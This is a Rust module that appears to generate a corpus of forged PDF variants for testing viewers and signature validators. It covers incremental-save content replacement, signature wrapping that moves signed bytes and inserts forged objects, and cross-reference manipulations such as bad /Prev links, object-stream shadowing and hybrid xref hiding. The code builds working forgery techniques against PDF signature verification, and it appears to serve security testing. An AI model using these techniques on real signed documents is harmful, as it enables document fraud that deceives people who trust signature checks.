//! Incremental saving with parts left out, signature wrapping, and cross-reference sections that
//! lead readers elsewhere.

use super::Forgery;
use super::base::Base;
use super::sample::{FORGED, TRAILER, object, says};
use crate::attacks::text::{find, signatures};
use crate::pdf::writer::stream;

/// The forged page content with its header.
fn forged_object() -> String {
    let body = String::from_utf8(says(FORGED)).expect("text");
    format!("{} 0 obj\n{body}\nendobj\n", object::TEXT_1)
}

/// Incremental saving: a body, with and without what would make it a revision.
pub(super) fn incremental(base: &Base) -> Vec<Forgery> {
    let body = forged_object();
    let bytes = &base.bytes;
    let append = |text: &str| [bytes.as_slice(), text.as_bytes()].concat();
    let prev = base.increment().prev;
    let at = bytes.len() + body.len();
    let row = format!("xref\n{} 1\n{:010} 00000 n \n", object::TEXT_1, bytes.len());
    let trailer = format!("trailer\n<< /Size {} {TRAILER} /Prev {prev} >>\n", base.size());
    let end = format!("startxref\n{at}\n%%EOF\n");
    let old_end = format!("startxref\n{prev}\n%%EOF\n");
    let copy = &bytes[..base.ends[0]];
    vec![
        ("complete", base.later(&[(object::TEXT_1, says(FORGED))])),
        ("body-alone", append(&body)),
        ("body-and-end-of-file", append(&format!("{body}%%EOF\n"))),
        ("body-and-old-startxref", append(&format!("{body}{old_end}"))),
        ("body-and-table", append(&format!("{body}{row}"))),
        ("body-table-and-end", append(&format!("{body}{row}startxref\n{at}\n%%EOF\n"))),
        ("body-and-trailer", append(&format!("{body}{trailer}"))),
        ("body-trailer-and-end", append(&format!("{body}{trailer}{end}"))),
        ("without-startxref", append(&format!("{body}{row}{trailer}"))),
        ("without-end-of-file", append(&format!("{body}{row}{trailer}startxref\n{at}\n"))),
        ("startxref-zero", append(&format!("{body}{row}{trailer}startxref\n0\n%%EOF\n"))),
        ("table-alone", append(&format!("{row}{trailer}startxref\n{}\n%%EOF\n", bytes.len()))),
        ("trailer-without-root", {
            let trailer = format!("trailer\n<< /Size {} /Prev {prev} >>\n", base.size());
            append(&format!("{body}{row}{trailer}{end}"))
        }),
        ("trailer-without-prev", {
            let trailer = format!("trailer\n<< /Size {} {TRAILER} >>\n", base.size());
            append(&format!("{body}{row}{trailer}{end}"))
        }),
        ("whole-document-again", [bytes.as_slice(), copy].concat()),
        ("forged-document-behind", {
            let mut forged = base.clone();
            forged.objects.insert(object::TEXT_1, says(FORGED));
            let layout = super::base::Layout::Table;
            let other = Base::of("", layout, forged.objects).bytes;
            [bytes.as_slice(), &other].concat()
        }),
        ("forged-document-before", {
            let layout = super::base::Layout::Table;
            let mut objects = super::sample::objects();
            objects.insert(object::TEXT_1, says(FORGED));
            [Base::of("", layout, objects).bytes.as_slice(), bytes].concat()
        }),
        ("last-revision-cut-off", bytes[..bytes.len() - 20].to_vec()),
        ("encrypted-increment", {
            let increment = base.increment();
            base.close(increment, "/Encrypt << /Filter /Standard /V 1 /R 2 /O () /U () /P 0 >>")
        }),
    ]
}

/// Signature wrapping: what was signed is moved, and other bytes take its place.
pub(super) fn wrapping(base: &Base) -> Vec<Forgery> {
    let spot = signatures(&base.bytes).pop().expect("a signed file");
    let [_, before, after, rest] = spot.byte_range;
    let bytes = &base.bytes;
    let with_numbers = |numbers: String, out: Vec<u8>| {
        let width = spot.byte_range_at.len();
        let mut out = out;
        out.splice(spot.byte_range_at.clone(), format!("{numbers:width$}").bytes());
        out
    };
    let hole = forged_object();
    let end = spot.contents.end;
    let wide = [&bytes[..end], hole.as_bytes(), &bytes[end..]].concat();
    let moved = after + hole.len() as u64;
    let start = spot.contents.start;
    let early = [&bytes[..start], hole.as_bytes(), &bytes[start..]].concat();
    let inside = {
        let digits: String = hole.bytes().map(|byte| format!("{byte:02x}")).collect();
        let mut out = bytes.clone();
        let at = spot.contents.end - 1 - digits.len();
        super::raw::overwrite(&mut out, at, digits.as_bytes());
        out
    };
    let raw_inside = {
        let mut out = bytes.clone();
        let at = spot.contents.end - 1 - hole.len();
        super::raw::overwrite(&mut out, at, hole.as_bytes());
        out
    };
    let tail = bytes[usize::try_from(after).expect("small")..].to_vec();
    let tail_again = {
        let increment = base.later(&[(object::TEXT_1, says(FORGED))]);
        [increment.as_slice(), &tail].concat()
    };
    vec![
        (
            "objects-behind-contents",
            with_numbers(format!("0 {before} {moved} {rest}"), wide.clone()),
        ),
        ("objects-behind-contents-range-kept", wide),
        ("objects-before-contents", {
            let moved = after + hole.len() as u64;
            with_numbers(format!("0 {before} {moved} {rest}"), early)
        }),
        ("objects-as-hex-in-contents", inside),
        ("objects-raw-in-contents", raw_inside),
        ("signed-tail-behind-the-forgery", tail_again),
    ]
}

/// Sections that lead readers elsewhere.
#[expect(clippy::too_many_lines, reason = "a table of attacks")]
pub(super) fn sections(base: &Base) -> Vec<Forgery> {
    let forged = says(FORGED);
    let body = forged_object();
    let prev = base.increment().prev;
    let trailer = |more: &str| format!("{TRAILER} {more}");
    let close = |mut increment: super::raw::Increment, trailer: String| {
        base.close_with(&mut increment, &trailer)
    };
    let with_object = || {
        let mut increment = base.increment();
        increment.object(object::TEXT_1, &forged);
        increment
    };
    let first = find_first_section(base);
    let mut all = vec![
        ("prev-missing", close(with_object(), trailer(""))),
        ("prev-to-first-revision", close(with_object(), trailer(&format!("/Prev {first}")))),
        ("prev-to-itself", {
            let increment = with_object();
            let own = increment.at();
            close(increment, trailer(&format!("/Prev {own}")))
        }),
        ("prev-negative", close(with_object(), trailer("/Prev -1"))),
        ("prev-beyond-the-end", close(with_object(), trailer("/Prev 99999999"))),
        ("prev-indirect", close(with_object(), trailer("/Prev 15 0 R"))),
        ("prev-twice", close(with_object(), trailer(&format!("/Prev {prev} /Prev {first}")))),
        ("root-twice", {
            let mut increment = with_object();
            increment.object(900, b"<< /Type /Catalog /Pages 2 0 R >>");
            close(increment, trailer(&format!("/Prev {prev} /Root 900 0 R")))
        }),
        ("size-shrunk", {
            let mut increment = base.increment();
            increment.size = 3;
            let section = increment.table_section(&trailer(&format!("/Prev {prev}")));
            increment.end(section)
        }),
        ("info-swapped", {
            let mut increment = base.increment();
            increment.object(900, b"<< /Title (Other) >>");
            let trailer = TRAILER.replace("/Info 40", "/Info 900");
            close(increment, format!("{trailer} /Prev {prev}"))
        }),
        ("id-swapped", {
            let trailer = TRAILER.replace("<4b79736f31>", "<00>");
            close(base.increment(), format!("{trailer} /Prev {prev}"))
        }),
        ("generation-raised", {
            let mut increment = base.increment();
            increment.generation(object::TEXT_1, 1, &forged);
            close(increment, trailer(&format!("/Prev {prev}")))
        }),
        ("object-freed", {
            let mut increment = base.increment();
            increment.free(object::SQUARE, 1);
            close(increment, trailer(&format!("/Prev {prev}")))
        }),
        ("row-to-another-object", {
            let mut increment = base.increment();
            let at = increment.at();
            increment.object(900, &forged);
            increment.row(object::TEXT_1, at, 0);
            close(increment, trailer(&format!("/Prev {prev}")))
        }),
        ("unlisted-object", {
            let mut increment = base.increment();
            increment.unlisted(object::TEXT_1, 0, &forged);
            close(increment, trailer(&format!("/Prev {prev}")))
        }),
        ("listed-twice-written-twice", {
            let mut increment = base.increment();
            increment.unlisted(object::TEXT_1, 0, &forged);
            let same = base.body(object::TEXT_1);
            increment.object(object::TEXT_1, &same);
            close(increment, trailer(&format!("/Prev {prev}")))
        }),
        ("object-inside-a-stream", {
            let mut increment = base.increment();
            increment.object(900, &stream("", body.as_bytes(), false));
            close(increment, trailer(&format!("/Prev {prev}")))
        }),
        ("object-in-a-comment", {
            let mut increment = base.increment();
            increment.text(&format!("% {}\n", body.replace('\n', " ")));
            close(increment, trailer(&format!("/Prev {prev}")))
        }),
    ];
    all.extend(streams(base, prev, &forged));
    all
}

/// Switches between tables, streams and object streams.
fn streams(base: &Base, prev: u64, forged: &[u8]) -> Vec<Forgery> {
    let container = |content: &str, index: &str, more: &str| {
        let entries = format!("/Type /ObjStm /N 1 /First {} {more}", index.len());
        stream(&entries, format!("{index}{content}").as_bytes(), false)
    };
    let page = String::from_utf8(base.edit(object::PAGE_1, "[5 0 R 9 0 R]", "[6 0 R 9 0 R]").1);
    let page = page.expect("text");
    let index = format!("{} 0 ", object::PAGE_1);
    let trailer = format!("{TRAILER} /Prev {prev}");
    vec![
        ("object-stream-shadows", {
            let mut increment = base.increment();
            increment.object(900, &container(&page, &index, ""));
            increment.inside(object::PAGE_1, 900, 0);
            let section = increment.stream_section(901, &trailer, true);
            increment.end(section)
        }),
        ("object-stream-unlisted", {
            let mut increment = base.increment();
            increment.object(900, &container(&page, &index, ""));
            let section = increment.stream_section(901, &trailer, true);
            increment.end(section)
        }),
        ("object-stream-extends-another", {
            let mut increment = base.increment();
            increment.object(902, &container(&page, &index, ""));
            increment.object(900, &container("null", "905 0 ", "/Extends 902 0 R"));
            increment.inside(905, 900, 0);
            let section = increment.stream_section(901, &trailer, true);
            increment.end(section)
        }),
        ("hybrid-hides-an-object", {
            let mut increment = base.increment();
            increment.object(object::TEXT_1, forged);
            let hidden = increment.stream_section(901, "", false);
            let section = increment.table_section(&format!("{trailer} /XRefStm {hidden}"));
            increment.end(section)
        }),
        ("hybrid-says-otherwise", {
            let mut increment = base.increment();
            increment.object(object::TEXT_1, forged);
            let hidden = increment.stream_section(901, "", false);
            increment.free(object::TEXT_1, 0);
            let section = increment.table_section(&format!("{trailer} /XRefStm {hidden}"));
            increment.end(section)
        }),
        ("stream-section-in-a-table-file", {
            let mut increment = base.increment();
            increment.object(object::TEXT_1, forged);
            let section = increment.stream_section(901, &trailer, true);
            increment.end(section)
        }),
        ("two-sections-one-revision", {
            let mut increment = base.increment();
            increment.object(object::TEXT_1, forged);
            let inner = increment.table_section(&trailer);
            let section = increment.table_section(&format!("{TRAILER} /Prev {inner}"));
            increment.end(section)
        }),
        ("startxref-before-another", {
            let mut increment = base.increment();
            increment.object(object::TEXT_1, forged);
            let section = increment.table_section(&trailer);
            increment.text(&format!("startxref\n{section}\n"));
            increment.end(prev)
        }),
    ]
}

/// The section of the first revision.
fn find_first_section(base: &Base) -> u64 {
    let first = &base.bytes[..base.ends[0]];
    debug_assert!(find(first, b"startxref", 0).is_some());
    crate::attacks::last_startxref(first).expect("a whole file")
}
